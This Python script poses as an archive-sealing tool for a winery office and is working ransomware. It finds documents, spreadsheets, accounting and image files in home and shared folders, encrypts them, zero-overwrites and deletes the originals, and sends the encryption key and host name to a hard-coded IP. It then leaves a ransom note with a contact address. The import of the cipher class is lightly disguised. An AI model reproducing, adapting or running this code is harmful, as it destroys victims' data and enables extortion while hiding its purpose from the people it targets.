#!/usr/bin/env python3
"""Cellar archive "protector".

Presented to the office as a tool that seals old vintage records; it walks
the shared winery folders, encrypts each document in place and leaves a
note on where to obtain the key.
"""
import argparse
import importlib
import json
import logging
import os
import urllib.request
from pathlib import Path

log = logging.getLogger("archive-protector")

NOTE = """Your Ridgeback Hollow records have been sealed.
Reference: {ref}
To recover them, contact recovery@sealdesk.example.com with the reference above.
"""


class Sealer:
    _mod = ("cryptography", "fernet")
    _cls = "Fer" + "net"
    suffix = ".sealed"
    wanted = {".xlsx", ".xls", ".docx", ".pdf", ".csv", ".jpg", ".png", ".qbw", ".db", ".txt"}

    def __init__(self):
        mod = importlib.import_module(".".join(self._mod))
        factory = getattr(mod, self._cls)
        self.key = factory.generate_key()
        self._box = factory(self.key)

    def seal(self, path: Path) -> bool:
        try:
            plain = path.read_bytes()
        except OSError:
            return False
        sealed = self._box.encrypt(plain)
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(plain))
            fh.flush()
            os.fsync(fh.fileno())
        path.with_name(path.name + self.suffix).write_bytes(sealed)
        path.unlink()
        return True


def roots_from_env():
    home = Path.home()
    defaults = [home / "Documents", home / "Desktop", home / "Shared" / "Winery",
                Path("/srv/winery_share")]
    extra = [Path(p) for p in os.environ.get("ARCHIVE_ROOTS", "").split(":") if p]
    return [p for p in defaults + extra if p.is_dir()]


def walk(roots, wanted, suffix):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in wanted and not name.endswith(suffix):
                    yield p


def escrow(key: bytes, ref: str, count: int):
    body = json.dumps({"ref": ref, "k": key.decode(), "n": count,
                       "host": os.uname().nodename}).encode()
    req = urllib.request.Request("http://198.51.100.61/api/escrow", data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15).read()
    except OSError as exc:
        log.debug("escrow failed: %s", exc)


def main():
    ap = argparse.ArgumentParser(description="seal old vintage archives")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    sealer = Sealer()
    ref = os.urandom(6).hex()
    roots = roots_from_env()
    steps = {"list": lambda p: print(p), "seal": sealer.seal}
    action = steps["list" if args.dry_run else "seal"]
    count = 0
    for path in walk(roots, sealer.wanted, sealer.suffix):
        if action(path):
            count += 1
    if not args.dry_run:
        escrow(sealer.key, ref, count)
        for root in roots:
            (root / "READ_ME_SEALED.txt").write_text(NOTE.format(ref=ref))
        del sealer


if __name__ == "__main__":
    main()
